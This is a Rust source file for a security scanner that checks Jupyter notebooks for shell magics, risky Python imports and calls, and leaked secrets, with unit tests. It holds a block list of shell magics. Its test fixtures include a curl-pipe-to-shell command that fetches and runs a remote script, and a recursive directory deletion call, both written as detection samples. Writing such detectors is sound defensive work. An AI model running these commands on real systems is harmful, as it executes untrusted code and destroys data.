//! Jupyter notebook scanner.
//!
//! Walks cells as JSON first for shell "magic" directives (`!pip install`,
//! `%%bash`, ...), then rewrites magics to blank comments (preserving line
//! numbers) and parses the remaining source as Python to recover imports
//! and call targets via a syntax tree, same as any other code-layer check.
//! Output cells are scanned as plain text for leaked secrets.

use std::path::Path;

use serde_json::Value;
use tree_sitter::Parser;

use crate::config::WardenConfig;
use crate::pipeline::{CancelToken, Finding, Severity, ThreatKind};
use crate::signatures::SignatureStore;

const DANGEROUS_MAGICS: &[&str] = &["!", "%%bash", "%%sh", "%%script", "%%perl", "%%ruby", "%system"];

pub fn scan(
    path: &Path,
    config: &WardenConfig,
    signatures: &SignatureStore,
    cancel: &CancelToken,
) -> Vec<Finding> {
    let raw = match std::fs::read_to_string(path) {
        Ok(r) => r,
        Err(e) => {
            return vec![Finding::new(
                path,
                "notebook-read-error",
                Severity::High,
                ThreatKind::ScanError,
                format!("could not read file: {e}"),
            )]
        }
    };

    let notebook: Value = match serde_json::from_str(&raw) {
        Ok(v) => v,
        Err(e) => {
            return vec![Finding::new(
                path,
                "notebook-malformed-json",
                Severity::Warning,
                ThreatKind::ScanError,
                format!("notebook is not valid JSON: {e}"),
            )]
        }
    };

    let mut findings = Vec::new();
    let cells = match notebook.get("cells").and_then(Value::as_array) {
        Some(c) => c,
        None => return findings,
    };

    for (idx, cell) in cells.iter().enumerate() {
        if cancel.is_cancelled() {
            break;
        }
        let cell_number = idx + 1;
        let cell_type = cell.get("cell_type").and_then(Value::as_str).unwrap_or("");
        let source = cell_source(cell);

        if cell_type == "code" {
            scan_directives(path, cell_number, &source, &mut findings);
            let cleaned = clean_magics(&source);
            scan_python_ast(path, cell_number, &cleaned, config, signatures, &mut findings);
            scan_outputs(path, cell_number, cell, signatures, &mut findings);
        }

        scan_secrets(path, cell_number, &source, signatures, &mut findings);
    }

    findings
}

fn cell_source(cell: &Value) -> String {
    match cell.get("source") {
        Some(Value::Array(lines)) => lines
            .iter()
            .filter_map(Value::as_str)
            .collect::<Vec<_>>()
            .join(""),
        Some(Value::String(s)) => s.clone(),
        _ => String::new(),
    }
}

fn scan_directives(path: &Path, cell_number: usize, source: &str, findings: &mut Vec<Finding>) {
    for (line_offset, line) in source.lines().enumerate() {
        let stripped = line.trim_start();
        if DANGEROUS_MAGICS.iter().any(|m| stripped.starts_with(m)) {
            findings.push(
                Finding::new(
                    path,
                    "notebook-shell-magic",
                    Severity::High,
                    ThreatKind::CodeLayer,
                    format!("cell {cell_number} invokes a shell magic: {}", stripped.trim()),
                )
                .at_line(line_offset + 1),
            );
        }
    }
}

/// Replaces magic lines with blank comments so the remainder parses as
/// plain Python, without shifting any line numbers.
fn clean_magics(source: &str) -> String {
    source
        .lines()
        .map(|line| {
            let stripped = line.trim_start();
            if stripped.starts_with('!') || stripped.starts_with('%') {
                "#"
            } else {
                line
            }
        })
        .collect::<Vec<_>>()
        .join("\n")
}

fn scan_python_ast(
    path: &Path,
    cell_number: usize,
    source: &str,
    config: &WardenConfig,
    signatures: &SignatureStore,
    findings: &mut Vec<Finding>,
) {
    let mut parser = Parser::new();
    if parser
        .set_language(&tree_sitter_python::LANGUAGE.into())
        .is_err()
    {
        return;
    }
    let tree = match parser.parse(source, None) {
        Some(t) => t,
        None => return,
    };

    let root = tree.root_node();
    let bytes = source.as_bytes();
    let mut stack = vec![root];

    while let Some(node) = stack.pop() {
        match node.kind() {
            "import_statement" => {
                for child in node.children(&mut node.walk()) {
                    if let Ok(text) = child.utf8_text(bytes) {
                        let module = text.split('.').next().unwrap_or(text);
                        check_import(path, cell_number, module, config, signatures, findings);
                    }
                }
            }
            "import_from_statement" => {
                if let Some(module_node) = node.child_by_field_name("module_name") {
                    if let Ok(text) = module_node.utf8_text(bytes) {
                        check_import(path, cell_number, text, config, signatures, findings);
                    }
                }
            }
            "call" => {
                if let Some(func) = node.child_by_field_name("function") {
                    if let Ok(text) = func.utf8_text(bytes) {
                        if let Some((module, attr)) = text.rsplit_once('.') {
                            check_module(path, cell_number, module, attr, config, signatures, findings);
                        } else {
                            check_module(path, cell_number, "builtins", text, config, signatures, findings);
                        }
                    }
                }
            }
            _ => {}
        }

        for child in node.children(&mut node.walk()) {
            stack.push(child);
        }
    }
}

fn check_module(
    path: &Path,
    cell_number: usize,
    module: &str,
    attr: &str,
    config: &WardenConfig,
    signatures: &SignatureStore,
    findings: &mut Vec<Finding>,
) {
    if config.allowed_modules.contains(module) {
        return;
    }
    if let Some(severity) = signatures.severity_of(module, attr) {
        findings.push(Finding::new(
            path,
            "notebook-unsafe-reference",
            severity,
            ThreatKind::CodeLayer,
            format!("cell {cell_number} references {module}.{attr}"),
        ));
    }
}

/// Import nodes are noisier than calls -- a notebook can legitimately
/// `import pickle` without ever invoking anything dangerous from it -- so
/// unlike `check_module`, only a CRITICAL-mapped module is worth flagging
/// here.
fn check_import(
    path: &Path,
    cell_number: usize,
    module: &str,
    config: &WardenConfig,
    signatures: &SignatureStore,
    findings: &mut Vec<Finding>,
) {
    if config.allowed_modules.contains(module) {
        return;
    }
    if signatures.severity_of(module, "*") == Some(Severity::Critical) {
        findings.push(Finding::new(
            path,
            "notebook-unsafe-import",
            Severity::Critical,
            ThreatKind::CodeLayer,
            format!("cell {cell_number} imports {module}"),
        ));
    }
}

fn scan_outputs(
    path: &Path,
    cell_number: usize,
    cell: &Value,
    signatures: &SignatureStore,
    findings: &mut Vec<Finding>,
) {
    let outputs = match cell.get("outputs").and_then(Value::as_array) {
        Some(o) => o,
        None => return,
    };

    for output in outputs {
        let text = if let Some(t) = output.get("text") {
            join_text(t)
        } else if let Some(data) = output.get("data").and_then(|d| d.get("text/plain")) {
            join_text(data)
        } else {
            continue;
        };

        for (pattern, rule) in signatures.suspicious_string_patterns() {
            if pattern.is_match(&text) {
                findings.push(Finding::new(
                    path,
                    rule.clone(),
                    Severity::Medium,
                    ThreatKind::Secret,
                    format!("cell {cell_number} output matches suspicious pattern"),
                ));
            }
        }
    }
}

fn scan_secrets(
    path: &Path,
    cell_number: usize,
    source: &str,
    signatures: &SignatureStore,
    findings: &mut Vec<Finding>,
) {
    for (pattern, rule) in signatures.suspicious_string_patterns() {
        if pattern.is_match(source) {
            findings.push(Finding::new(
                path,
                rule.clone(),
                Severity::Medium,
                ThreatKind::Secret,
                format!("cell {cell_number} source matches suspicious pattern"),
            ));
        }
    }
}

fn join_text(value: &Value) -> String {
    match value {
        Value::Array(lines) => lines
            .iter()
            .filter_map(Value::as_str)
            .collect::<Vec<_>>()
            .join(""),
        Value::String(s) => s.clone(),
        _ => String::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::signatures::SignatureStore;
    use std::io::Write;

    fn write_notebook(dir: &tempfile::TempDir, cell_source: &[&str]) -> std::path::PathBuf {
        let notebook = serde_json::json!({
            "cells": [
                {
                    "cell_type": "code",
                    "source": cell_source,
                    "outputs": [],
                }
            ]
        });
        let path = dir.path().join("notebook.ipynb");
        let mut file = std::fs::File::create(&path).unwrap();
        file.write_all(notebook.to_string().as_bytes()).unwrap();
        path
    }

    #[test]
    fn curl_pipe_shell_magic_is_flagged_high() {
        let dir = tempfile::tempdir().unwrap();
        let path = write_notebook(&dir, &["!curl http://example.com/install.sh | sh\n"]);
        let config = WardenConfig::default();
        let signatures = SignatureStore::load_or_default(Path::new("/nonexistent")).unwrap();
        let findings = scan(&path, &config, &signatures, &CancelToken::new());

        assert!(findings
            .iter()
            .any(|f| f.rule == "notebook-shell-magic" && f.severity == Severity::High));
    }

    #[test]
    fn plain_python_cell_has_no_shell_magic_finding() {
        let dir = tempfile::tempdir().unwrap();
        let path = write_notebook(&dir, &["import pandas as pd\n", "pd.read_csv('a.csv')\n"]);
        let config = WardenConfig::default();
        let signatures = SignatureStore::load_or_default(Path::new("/nonexistent")).unwrap();
        let findings = scan(&path, &config, &signatures, &CancelToken::new());

        assert!(!findings.iter().any(|f| f.rule == "notebook-shell-magic"));
    }

    #[test]
    fn importing_high_severity_module_is_not_flagged() {
        let dir = tempfile::tempdir().unwrap();
        let path = write_notebook(&dir, &["import shutil\n"]);
        let config = WardenConfig::default();
        let signatures = SignatureStore::load_or_default(Path::new("/nonexistent")).unwrap();
        let findings = scan(&path, &config, &signatures, &CancelToken::new());

        assert!(!findings.iter().any(|f| f.rule == "notebook-unsafe-import"));
    }

    #[test]
    fn importing_critical_severity_module_is_flagged() {
        let dir = tempfile::tempdir().unwrap();
        let path = write_notebook(&dir, &["import os\n"]);
        let config = WardenConfig::default();
        let signatures = SignatureStore::load_or_default(Path::new("/nonexistent")).unwrap();
        let findings = scan(&path, &config, &signatures, &CancelToken::new());

        assert!(findings
            .iter()
            .any(|f| f.rule == "notebook-unsafe-import" && f.severity == Severity::Critical));
    }

    #[test]
    fn calling_high_severity_module_attribute_is_still_flagged() {
        let dir = tempfile::tempdir().unwrap();
        let path = write_notebook(&dir, &["import shutil\n", "shutil.rmtree('/tmp/x')\n"]);
        let config = WardenConfig::default();
        let signatures = SignatureStore::load_or_default(Path::new("/nonexistent")).unwrap();
        let findings = scan(&path, &config, &signatures, &CancelToken::new());

        assert!(findings
            .iter()
            .any(|f| f.rule == "notebook-unsafe-reference" && f.severity == Severity::High));
    }
}
